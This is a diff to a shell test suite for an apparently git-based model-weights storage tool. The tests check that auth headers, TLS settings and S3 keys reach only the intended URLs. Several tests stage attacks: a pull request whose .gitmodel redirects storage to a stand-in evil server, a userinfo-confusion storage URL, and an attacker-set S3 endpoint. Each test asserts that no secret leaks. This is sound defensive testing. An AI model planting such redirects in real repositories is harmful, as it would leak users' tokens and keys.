@@ -40,31 +40,23 @@ new_repo () {
 	git -C "$1" remote add origin "../$1.git"
 }
 
-# weights DIR NAME: commit a new weight file NAME in DIR.
-weights () {
-	test-tool genrandom "$1-$2" 300k >"$1/$2" &&
-	git -C "$1" add "$2" &&
-	test_tick &&
-	git -C "$1" commit -q -m "$2"
-}
-
 test_expect_success 'setup: upstream, a PR branch to evil, a victim with a token' '
 	git model install &&
 	new_repo up &&
 	git -C up config -f .gitmodel model.storage "$HTTPD_URL/open/models" &&
 	git -C up add .gitmodel &&
-	weights up a.pth &&
+	commit_weights up a.pth 300k &&
 	git -C up push -q origin main &&
 	git clone -q up.git attacker &&
 	git -C attacker checkout -q -b pr &&
 	git -C attacker config -f .gitmodel model.storage "$EVIL_URL/x" &&
 	git -C attacker add .gitmodel &&
-	weights attacker b.pth &&
+	commit_weights attacker b.pth 300k &&
 	git -C attacker push -q --no-verify origin pr &&
 	git config --global model.http.extraHeader "Authorization: Bearer $TOKEN" &&
 	git clone -q up.git victim &&
 	test_cmp_bin up/a.pth victim/a.pth &&
-	weights victim c.pth &&
+	commit_weights victim c.pth 300k &&
 	# no racily clean entry: git has no reason to run the filter before
 	# the checkout has written the PR'"'"'s .gitmodel
 	touch -d "1 hour ago" victim/*.pth victim/.git* &&
@@ -91,7 +83,7 @@ test_expect_success 'an unscoped header is not sent to a storage only .gitmodel 
 	new_repo bearer &&
 	git -C bearer config -f .gitmodel model.storage "$HTTPD_URL/bearer/models" &&
 	git -C bearer add .gitmodel &&
-	weights bearer a.pth &&
+	commit_weights bearer a.pth 300k &&
 	test_must_fail git -C bearer \
 		-c model.http.extraHeader="Authorization: Bearer $HTTPD_TOKEN" \
 		push origin main 2>err &&
@@ -104,7 +96,7 @@ test_expect_success 'an unscoped header is not sent to a storage only .gitmodel 
 
 test_expect_success 'http.<url>.extraHeader goes to that URL only, as git matches it' '
 	git -C bearer config --unset model.storage &&
-	weights bearer b.pth &&
+	commit_weights bearer b.pth 300k &&
 	git -C bearer \
 		-c "http.$HTTPD_URL/bearer/.extraHeader=Authorization: Bearer $HTTPD_TOKEN" \
 		push -q origin main &&
@@ -113,7 +105,7 @@ test_expect_success 'http.<url>.extraHeader goes to that URL only, as git matche
 	for storage in "$EVIL_URL/x" "$EVIL_URL/good-evil/x" \
 		"http://127.0.0.1:$HTTPD_PORT@${EVIL_URL#http://}/y"
 	do
-		weights bearer "c$(wc -l <"$EVIL_LOG").pth" &&
+		commit_weights bearer "c$(wc -l <"$EVIL_LOG").pth" 300k &&
 		git -C bearer -c model.storage="$storage" \
 			-c "http.$HTTPD_URL/bearer/.extraHeader=X-Test: $TOKEN" \
 			-c "http.$EVIL_URL/good/.extraHeader=X-Test: $TOKEN" \
@@ -122,6 +114,19 @@ test_expect_success 'http.<url>.extraHeader goes to that URL only, as git matche
 	done &&
 	test $(grep -c "^PUT " "$EVIL_LOG") = 3 &&
 	evil_saw_no_secret
+'
+
+test_expect_success 'TLS: http.<url>.sslCAInfo counts for its URL only' '
+	new_repo tls &&
+	git -C tls config model.storage "$HTTPD_SSL_URL/open/models" &&
+	commit_weights tls a.pth 300k &&
+	test_must_fail git -C tls \
+		-c "http.https://127.0.0.1:1/.sslCAInfo=$HTTPD_CERT" \
+		push origin main 2>err &&
+	grep -i "certificate" err &&
+	git -C tls -c "http.$HTTPD_SSL_URL/.sslCAInfo=$HTTPD_CERT" \
+		push -q origin main &&
+	test_path_is_file "$(obj "$HTTPD_ROOT/open/models" $(oid_of tls/a.pth))"
 '
 
 test_expect_success 'http.<url> matching agrees with git config --get-urlmatch' '
@@ -163,7 +168,7 @@ test_expect_success 'S3 endpoint from .gitmodel: refused, no request, says how t
 	git -C s3 config -f .gitmodel model.storage s3://models/m &&
 	git -C s3 config -f .gitmodel model.s3.endpoint "$EVIL_URL" &&
 	git -C s3 add .gitmodel &&
-	weights s3 a.pth &&
+	commit_weights s3 a.pth 300k &&
 	: >"$EVIL_LOG" &&
 	test_must_fail env AWS_ACCESS_KEY_ID=$S3_ACCESS_KEY_ID \
 		AWS_SECRET_ACCESS_KEY=$S3_SECRET_ACCESS_KEY \
@@ -178,7 +183,7 @@ test_expect_success 'S3: an endpoint the user names wins and gets the keys' '
 		AWS_SECRET_ACCESS_KEY=$S3_SECRET_ACCESS_KEY \
 		AWS_ENDPOINT_URL=$S3_ENDPOINT \
 		git -C s3 push -q origin main &&
-	weights s3 b.pth &&
+	commit_weights s3 b.pth 300k &&
 	git -C s3 config model.s3.endpoint "$S3_ENDPOINT" &&
 	env AWS_ACCESS_KEY_ID=$S3_ACCESS_KEY_ID \
 		AWS_SECRET_ACCESS_KEY=$S3_SECRET_ACCESS_KEY \
@@ -196,7 +201,7 @@ test_expect_success 'an Authorization header refused: said so, the stored passwo
 	git -C basic config model.storage "$HTTPD_URL/auth/models" &&
 	git -C basic config model.http.extraHeader \
 		"Authorization: Basic $(printf "%s" "$HTTPD_USER:wrong" | base64)" &&
-	weights basic a.pth &&
+	commit_weights basic a.pth 300k &&
 	test_must_fail git -C basic push origin main 2>err &&
 	grep "error: .$HTTPD_URL/auth/models. refused the Authorization header of your extraHeader setting" err &&
 	test_cmp creds.expect "$HOME/.git-credentials"
@@ -228,7 +233,7 @@ test_expect_success 'a password with # in the storage URL: never in a pointer or
 	new_repo hash &&
 	git -C hash config model.storage \
 		"http://$HTTPD_USER:pa#ss-$TOKEN@127.0.0.1:$HTTPD_PORT/auth/models" &&
-	weights hash a.pth &&
+	commit_weights hash a.pth 300k &&
 	git -C hash cat-file -p HEAD:a.pth >pointer &&
 	grep "^url $HTTPD_URL/auth/models/sha256/" pointer &&
 	git -C hash model env >out &&
